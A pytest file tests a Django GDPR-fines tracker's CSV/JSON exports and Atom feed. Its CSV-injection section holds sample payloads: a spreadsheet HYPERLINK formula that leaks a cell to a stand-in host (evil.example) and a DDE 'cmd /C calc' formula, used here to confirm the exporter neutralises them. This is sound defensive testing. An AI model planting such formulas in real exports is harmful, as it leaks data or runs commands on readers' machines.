"""Open exports (CSV, JSON) and the Atom feed: the list's filters, the interchange format, streaming, round trips."""
import csv
import datetime
import html
import io
import json
import tracemalloc
from decimal import Decimal

import feedparser
import pytest
from django.db import connection
from django.db.models import Sum
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import given, settings
from hypothesis import strategies as st

from fines.importers.interchange import read_interchange_csv
from fines.interchange import COLUMNS, csv_cell, csv_value, decision_record
from fines.models import AppealEvent, ArticleCitation, Decision, Organisation, Source
from fines.services import Change, decision_upsert, register_load
from fines.vocabularies import Status


def _body(response) -> str:
    assert response.streaming, "exports must stream"
    return b"".join(response.streaming_content).decode("utf-8")


def _csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    reader = csv.DictReader(io.StringIO(_body(response), newline=""))
    assert tuple(reader.fieldnames) == COLUMNS
    return list(reader)


def _json_decisions(response) -> list[dict]:
    assert response.status_code == 200
    return json.loads(_body(response))["decisions"]


def _feed(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    parsed = feedparser.parse(response.content)
    assert not parsed.bozo, parsed.get("bozo_exception")
    return parsed


@pytest.fixture
def sample(make_authority, make_organisation, make_decision):
    """France (CNIL: Google twice, Criteo), Luxembourg (Amazon, upheld), Norway (NOK, month only), a UK notice."""
    cnil = make_authority("cnil", "CNIL", "FR", name="Commission nationale de l'informatique et des libertés")
    cnpd = make_authority("cnpd", "CNPD", "LU")
    datatilsynet = make_authority("datatilsynet-no", "Datatilsynet", "NO")
    ico = make_authority("ico", "ICO", "GB")
    alphabet = make_organisation("Alphabet Inc.")
    google = make_organisation("Google LLC", parent=alphabet)
    d = {}
    d["google"] = make_decision(authority=cnil, organisation=google, amount="50000000",
                                decision_date=datetime.date(2019, 1, 21),
                                summary="Android ads consent.\nSecond line, with a comma.")
    d["cookies"] = make_decision(authority=cnil, organisation=google, amount="90000000",
                                 decision_date=datetime.date(2021, 12, 31), legal_basis="eprivacy")
    d["criteo"] = make_decision(authority=cnil, organisation=make_organisation("Criteo S.A."), amount="40000000",
                                decision_date=datetime.date(2023, 6, 15))
    d["amazon"] = make_decision(authority=cnpd, organisation=make_organisation("Amazon Europe Core S.à r.l."),
                                amount="746000000", decision_date=datetime.date(2021, 7, 15), status=Status.UPHELD)
    d["grindr"] = make_decision(authority=datatilsynet, organisation=make_organisation("Grindr LLC"),
                                amount="65000000.50", currency="NOK", decision_date=datetime.date(2021, 12, 1),
                                date_precision="month")
    d["ba_notice"] = make_decision(authority=ico, organisation=make_organisation("British Airways plc"),
                                   amount="183390000", currency="GBP", decision_date=datetime.date(2019, 7, 8),
                                   status=Status.PROPOSED)
    d["draft"] = make_decision(authority=cnil, organisation=google, amount="123456", is_published=False,
                               decision_date=datetime.date(2024, 1, 1))
    ArticleCitation.objects.create(decision=d["google"], article_id=6, provision="6")
    ArticleCitation.objects.create(decision=d["google"], article_id=5, provision="5(1)(a)")
    ArticleCitation.objects.create(decision=d["amazon"], article_id=5, provision="5(1)(a)")
    d["google"].sources.create(url="https://www.cnil.fr/en/google-50m", title="CNIL press release", language="en")
    d["google"].sources.create(url="https://www.legifrance.gouv.fr/cnil/id/X", title="Decision", kind="decision")
    d["amazon"].appeals.create(date=datetime.date(2021, 10, 1), date_precision="month", body="Tribunal administratif",
                               outcome="lodged")
    d["amazon"].appeals.create(date=datetime.date(2025, 3, 18), body="Tribunal administratif", outcome="upheld",
                               amount_after=Decimal("746000000"), case_number="46762", note="Appeal dismissed.")
    return d


def _refs(sample, *names) -> list[str]:
    return [sample[name].reference for name in names]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["criteo", "cookies", "grindr", "amazon", "ba_notice", "google"]),
        ("?country=FR", ["criteo", "cookies", "google"]),
        ("?country=fr&country=LU", ["criteo", "cookies", "amazon", "google"]),
        ("?organisation=alphabet-inc", ["cookies", "google"]),  # the group brings its subsidiary's fines
        ("?organisation=google-llc", ["cookies", "google"]),
        ("?status=upheld&status=proposed", ["amazon", "ba_notice"]),
        ("?article=5", ["amazon", "google"]),
        ("?article=6", ["google"]),
        ("?country=FR&sort=-amount_eur", ["cookies", "google", "criteo"]),
        ("?country=US", []),
    ],
)
def test_the_exports_select_what_the_list_filters_select(client, sample, query, expected):
    csv_rows = _csv_rows(client.get(f"/fines/export.csv{query}"))
    json_rows = _json_decisions(client.get(f"/fines/export.json{query}"))
    assert [row["reference"] for row in csv_rows] == _refs(sample, *expected)
    assert [row["reference"] for row in json_rows] == _refs(sample, *expected)


def test_a_csv_row_speaks_the_interchange_format(client, sample):
    rows = {row["reference"]: row for row in _csv_rows(client.get("/fines/export.csv"))}
    google, grindr = rows[sample["google"].reference], rows[sample["grindr"].reference]
    assert (google["authority"], google["country"], google["organisation"], google["group"]) == (
        "cnil", "FR", "Google LLC", "Alphabet Inc.",
    )
    assert (google["decision_date"], google["date_precision"], google["amount"], google["currency"]) == (
        "2019-01-21", "day", "50000000", "EUR",
    )
    assert google["articles"] == "5(1)(a);6"
    assert google["sources"] == "https://www.cnil.fr/en/google-50m https://www.legifrance.gouv.fr/cnil/id/X"
    assert google["summary"] == "Android ads consent.\nSecond line, with a comma."
    assert (grindr["decision_date"], grindr["date_precision"]) == ("2021-12", "month")
    assert (grindr["amount"], grindr["currency"], grindr["current_amount"]) == ("65000000.5", "NOK", "65000000.5")
    assert grindr["eur_rate"] == "10.2195" and grindr["amount_eur"] == "6360389.5"
    notice = rows[sample["ba_notice"].reference]
    assert (notice["status"], notice["current_amount"]) == ("proposed", "")


def test_the_exports_are_attachments_named_for_what_they_are(client, sample):
    today = timezone.localdate().isoformat()
    response = client.get("/fines/export.csv?country=FR")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="finetracker-fines-{today}.csv"'
    response = client.get("/fines/export.json")
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == f'attachment; filename="finetracker-fines-{today}.json"'


def test_the_json_export_carries_sources_and_the_appeal_history(client, sample):
    decisions = {row["reference"]: row for row in _json_decisions(client.get("/fines/export.json"))}
    amazon = decisions[sample["amazon"].reference]
    assert set(COLUMNS) | {"appeals"} == set(amazon)
    assert list(amazon)[: len(COLUMNS)] == list(COLUMNS)
    assert amazon["appeals"] == [
        {"date": "2021-10", "date_precision": "month", "body": "Tribunal administratif", "case_number": "",
         "outcome": "lodged", "amount_after": None, "source_url": "", "note": ""},
        {"date": "2025-03-18", "date_precision": "day", "body": "Tribunal administratif", "case_number": "46762",
         "outcome": "upheld", "amount_after": "746000000", "source_url": "", "note": "Appeal dismissed."},
    ]
    assert decisions[sample["google"].reference]["sources"] == [
        {"url": "https://www.cnil.fr/en/google-50m", "title": "CNIL press release", "language": "en",
         "kind": "press_release"},
        {"url": "https://www.legifrance.gouv.fr/cnil/id/X", "title": "Decision", "language": "", "kind": "decision"},
    ]
    assert decisions[sample["criteo"].reference]["appeals"] == []


def test_drafts_never_appear(client, sample):
    draft = sample["draft"].reference
    assert draft not in [row["reference"] for row in _csv_rows(client.get("/fines/export.csv?organisation=google-llc"))]
    assert draft not in [row["reference"] for row in _json_decisions(client.get("/fines/export.json"))]
    links = [entry.link for entry in _feed(client.get("/fines/feed.atom?organisation=google-llc")).entries]
    assert not any(link.endswith(sample["draft"].get_absolute_url()) for link in links)
    assert len(links) == 2


@pytest.mark.parametrize("path", ["/fines/export.csv", "/fines/export.json", "/fines/feed.atom"])
@pytest.mark.parametrize(
    ("query", "field", "says"),
    [
        ("country=XX", "country", "Select a valid choice"),
        ("organisation=nope", "organisation", "Select a valid choice"),
        ("article=100", "article", "articles 1 to 99"),
        ("date_from=2022-01-01&date_to=2021-01-01", "date_to", "is before date_from"),
        ("contry=FR", "contry", "is not a filter"),
        ("page=2", "page", "is not a filter"),  # pages belong to the list, an export has them all
    ],
)
def test_an_invalid_filter_is_a_400_that_says_what_was_wrong(client, sample, path, query, field, says):
    response = client.get(f"{path}?{query}")
    assert response.status_code == 400
    assert not response.streaming
    text = response.content.decode()
    assert f"<code>{field}" in text and says in text


@pytest.mark.parametrize("path", ["/fines/export.csv", "/fines/export.json", "/fines/feed.atom"])
def test_only_get_and_head_are_allowed(client, sample, path):
    assert client.post(path).status_code == 405
    assert client.head(path).status_code == 200


def _bulk_decisions(count: int, *, authority, organisation, with_related: bool = True) -> list[Decision]:
    """Many published decisions at once, each (optionally) with an article, a source and an appeal."""
    start = (Decision.objects.order_by("-number").values_list("number", flat=True).first() or 0) + 1
    decisions = Decision.objects.bulk_create(
        Decision(
            number=number, authority=authority, organisation=organisation,
            decision_date=datetime.date(2020, 1, 1) + datetime.timedelta(days=number % 1500),
            amount=Decimal(1000 * number), currency="EUR", amount_eur=Decimal(1000 * number), eur_rate=Decimal(1),
            current_amount=Decimal(1000 * number), status=Status.APPEALED if with_related else Status.IMPOSED,
            summary="A synthetic decision for a test of size.", is_published=True,
        )
        for number in range(start, start + count)
    )
    if with_related:
        ArticleCitation.objects.bulk_create(
            ArticleCitation(decision=d, article_id=32, provision="32(1)") for d in decisions
        )
        Source.objects.bulk_create(Source(decision=d, url=f"https://example.org/{d.number}") for d in decisions)
        AppealEvent.objects.bulk_create(
            AppealEvent(decision=d, date=datetime.date(2024, 1, 1), body="Court", outcome="lodged") for d in decisions
        )
    return decisions


@pytest.mark.parametrize("path", ["/fines/export.csv", "/fines/export.json"])
def test_the_query_count_of_an_export_does_not_grow_with_its_rows(client, make_authority, make_organisation, path):
    authority, organisation = make_authority(), make_organisation()

    def queries_for_export() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as context:
            rows = len(_json_decisions(client.get(path)) if path.endswith("json") else _csv_rows(client.get(path)))
        return rows, len(context.captured_queries)

    _bulk_decisions(10, authority=authority, organisation=organisation)
    small_rows, small_queries = queries_for_export()
    _bulk_decisions(190, authority=authority, organisation=organisation)
    large_rows, large_queries = queries_for_export()
    assert (small_rows, large_rows) == (10, 200)
    assert small_queries == large_queries <= 5  # the decisions, then articles, sources and appeals of the chunk


def test_the_csv_amount_eur_adds_up_to_what_the_database_sums(client, register):
    for query, decisions in [
        ("country=FR", Decision.objects.published().for_country("FR")),
        ("organisation=meta-platforms-inc&status=imposed", Decision.objects.published().for_organisation(
            Organisation.objects.get(slug="meta-platforms-inc")).filter(status="imposed")),
        ("", Decision.objects.published()),
    ]:
        rows = _csv_rows(client.get(f"/fines/export.csv?{query}"))
        total = sum((Decimal(row["amount_eur"]) for row in rows if row["amount_eur"]), Decimal(0))
        assert len(rows) == decisions.count() > 0
        assert total == decisions.aggregate(total=Sum("amount_eur"))["total"]


def test_reimporting_the_json_export_changes_nothing(client, register):
    exported = b"".join(client.get("/fines/export.json").streaming_content)
    report = register_load(data=exported, dry_run=False)
    assert not report.problems
    counts = report.counts["decisions"]
    assert (counts[Change.CREATED], counts[Change.UPDATED], counts[Change.UNCHANGED]) == (
        0, 0, Decision.objects.count(),
    )
    assert b"".join(client.get("/fines/export.json").streaming_content) == exported


def _reimported_csv(exported: str) -> list[Change]:
    """The CSV read back through the interchange reader, as an import or an editor's bulk entry reads it."""
    result = read_interchange_csv(exported.encode())
    assert not result.problems
    return [decision_upsert(record=record)[1] for _, record in result.records]


def test_reimporting_the_csv_export_changes_nothing(client, register):
    exported = _body(client.get("/fines/export.csv"))
    changes = _reimported_csv(exported)
    assert len(changes) == Decision.objects.count()
    assert set(changes) == {Change.UNCHANGED}
    assert _body(client.get("/fines/export.csv")) == exported


# CSV injection: a spreadsheet must not run what an organisation's name or a summary says.

FORMULAS = {
    "organisation": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "group": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "-2+3 was the fine's first draft; =1+1 is not a formula here.",
    "case_number": "+44 20 7946 0000",
}


@pytest.fixture
def formulas(make_authority, make_organisation, make_decision):
    cnil = make_authority("cnil", "CNIL", "FR")
    group = make_organisation(FORMULAS["group"], slug="at-sum")
    return {
        "formulas": make_decision(
            authority=cnil, organisation=make_organisation(FORMULAS["organisation"], parent=group, slug="hyperlink"),
            summary=FORMULAS["summary"], case_number=FORMULAS["case_number"],
        ),
        "quoted": make_decision(
            authority=cnil, organisation=make_organisation("'=Already quoted Ltd", slug="already-quoted"),
            summary="@mention in a summary", case_number="'tis a plain case number",
        ),
    }


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client, formulas):
    exported = _body(client.get("/fines/export.csv"))
    rows = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in csv.reader(io.StringIO(exported, newline=""))}
    row = rows[formulas["formulas"].reference]
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value
    quoted = rows[formulas["quoted"].reference]
    assert (quoted["organisation"], quoted["summary"], quoted["case_number"]) == (
        "''=Already quoted Ltd", "'@mention in a summary", "'tis a plain case number",
    )
    for cells in rows.values():
        assert not [cell for cell in cells.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_formula_like_text_survives_the_csv_export_and_reimport_exactly(client, formulas):
    exported = _body(client.get("/fines/export.csv"))
    records = {record.reference: record for _, record in read_interchange_csv(exported.encode()).records}
    record = records[formulas["formulas"].reference]
    assert (record.organisation, record.group, record.summary, record.case_number) == (
        FORMULAS["organisation"], FORMULAS["group"], FORMULAS["summary"], FORMULAS["case_number"],
    )
    assert records[formulas["quoted"].reference].organisation == "'=Already quoted Ltd"
    assert set(_reimported_csv(exported)) == {Change.UNCHANGED}
    assert _body(client.get("/fines/export.csv")) == exported


def test_the_json_export_keeps_formula_like_text_as_it_is(client, formulas):
    decision = next(
        d for d in _json_decisions(client.get("/fines/export.json")) if d["reference"] == formulas["formulas"].reference
    )
    assert (decision["organisation"], decision["summary"]) == (FORMULAS["organisation"], FORMULAS["summary"])


@settings(max_examples=500, derandomize=True, database=None)
@given(st.one_of(st.text(), st.text(alphabet="'=+-@\t\r x", max_size=6)))
def test_every_text_reads_back_from_its_csv_cell_and_no_cell_starts_a_formula(value):
    cell = csv_cell(value)
    assert csv_value(cell) == value
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_the_json_export_rebuilds_the_register_where_only_the_authorities_are_known(client, register):
    exported = b"".join(client.get("/fines/export.json").streaming_content)
    Decision.objects.all().delete()
    Organisation.objects.filter(parent__isnull=False).delete()
    Organisation.objects.all().delete()
    report = register_load(data=exported, dry_run=False)
    assert not report.problems
    assert report.counts["decisions"][Change.CREATED] == len(json.loads(exported)["decisions"])
    assert b"".join(client.get("/fines/export.json").streaming_content) == exported


def test_a_csv_row_keeps_what_the_register_knows_about_its_source_urls(client, sample):
    google = sample["google"]
    row = next(row for row in _csv_rows(client.get("/fines/export.csv")) if row["reference"] == google.reference)
    row["sources"] += " https://example.org/new"
    _, change = decision_upsert(record=decision_record(row))
    assert change == Change.UPDATED
    assert list(google.sources.values_list("url", "title", "kind")) == [
        ("https://www.cnil.fr/en/google-50m", "CNIL press release", "press_release"),
        ("https://www.legifrance.gouv.fr/cnil/id/X", "Decision", "decision"),
        ("https://example.org/new", "", "press_release"),
    ]


def test_streaming_the_csv_export_keeps_memory_flat(client, make_authority, make_organisation):
    authority, organisation = make_authority(), make_organisation()

    def peak_while_streaming() -> tuple[int, int]:
        tracemalloc.start()
        try:
            rows = sum(chunk.count(b"\n") for chunk in client.get("/fines/export.csv").streaming_content)
            return rows, tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    _bulk_decisions(300, authority=authority, organisation=organisation)
    peak_while_streaming()  # imports and caches of a first request are not the export's
    small_rows, small_peak = peak_while_streaming()
    _bulk_decisions(2700, authority=authority, organisation=organisation)
    large_rows, large_peak = peak_while_streaming()
    assert (small_rows, large_rows) == (301, 3001)
    assert large_peak < small_peak * 3, (small_peak, large_peak)


def test_the_feed_follows_an_organisation_with_its_subsidiaries(client, register):
    feed = _feed(client.get("/fines/feed.atom?organisation=meta-platforms-inc"))
    assert feed.feed.title == "finetracker: fines against Meta Platforms, Inc."
    organisations = {entry.title.split(" fines ", 1)[1].rsplit(" €", 1)[0] for entry in feed.entries}
    assert {"Meta Platforms Ireland Limited", "WhatsApp Ireland Limited"} <= organisations
    expected = (
        Decision.objects.published().for_organisation(Organisation.objects.get(slug="meta-platforms-inc"))
        .order_by("-decision_date", "-number")
    )
    assert [entry.id for entry in feed.entries] == [f"http://testserver{d.get_absolute_url()}" for d in expected]
    assert "DPC fines Meta Platforms Ireland Limited €1.2 billion" in [entry.title for entry in feed.entries]


def test_a_feed_entry_says_who_fined_whom_how_much_and_links_the_permanent_url(client, sample):
    feed = _feed(client.get("/fines/feed.atom?authority=cnil"))
    assert feed.feed.title == "finetracker: fines by CNIL"
    assert feed.feed.link == "http://testserver/fines/?authority=cnil"
    assert [entry.title for entry in feed.entries] == [
        "CNIL fines Criteo S.A. €40 million", "CNIL fines Google LLC €90 million", "CNIL fines Google LLC €50 million",
    ]
    google = feed.entries[-1]
    permanent = f"http://testserver{sample['google'].get_absolute_url()}"
    assert google.link == google.id == permanent
    assert google.published_parsed[:3] == (2019, 1, 20)  # midnight in Brussels is 23:00 UTC the day before
    assert google.updated_parsed[:3] == sample["google"].date_added.utctimetuple()[:3]
    text = " ".join(html.unescape(google.summary).replace("\xa0", " ").split())
    assert "Commission nationale de l'informatique et des libertés (France)" in text
    assert "Google LLC (Alphabet Inc.)" in text and "€50,000,000" in text and "imposed" in text
    assert "Android ads consent." in text


def test_a_feed_entry_of_another_currency_gives_the_euro_amount_and_a_notice_is_not_a_fine(client, sample):
    feed = _feed(client.get("/fines/feed.atom?country=NO&country=GB"))
    assert feed.feed.title == "finetracker: fines in Norway, United Kingdom"
    titles = [entry.title.replace("\xa0", " ") for entry in feed.entries]
    assert titles == [
        "Datatilsynet fines Grindr LLC NOK 65 million", "ICO intends to fine British Airways plc £183.4 million",
    ]
    grindr = " ".join(feed.entries[0].summary.replace("\xa0", " ").split())
    assert "NOK 65,000,000.50" in grindr and "≈ €6,360,389.50" in grindr


def test_the_feed_of_everything_is_the_latest_fifty(client, sample, make_authority, make_organisation):
    _bulk_decisions(60, authority=make_authority(), organisation=make_organisation(), with_related=False)
    feed = _feed(client.get("/fines/feed.atom"))
    assert feed.feed.title == "finetracker: GDPR fines"
    assert len(feed.entries) == 50
    published = [entry.published_parsed for entry in feed.entries]
    assert published == sorted(published, reverse=True)
    assert _feed(client.get("/fines/feed.atom?status=imposed&country=FR")).feed.title == (
        "finetracker: fines in France (filtered)"
    )
